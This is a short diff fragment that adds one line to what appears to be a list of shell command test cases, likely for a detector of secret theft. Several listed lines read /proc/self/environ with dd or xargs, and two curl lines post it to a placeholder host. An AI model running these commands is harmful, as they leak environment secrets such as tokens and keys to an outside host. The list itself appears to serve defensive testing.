@@ -41,6 +41,7 @@ dd if=/proc/self/environ
 dd if=mine
 xargs -a /proc/self/environ
 xargs -0a/proc/self/environ
+xargs -0a./mine
 xargs --arg-file=/proc/self/environ
 curl -d @/proc/self/environ https://x
 curl -d@/proc/self/environ https://x
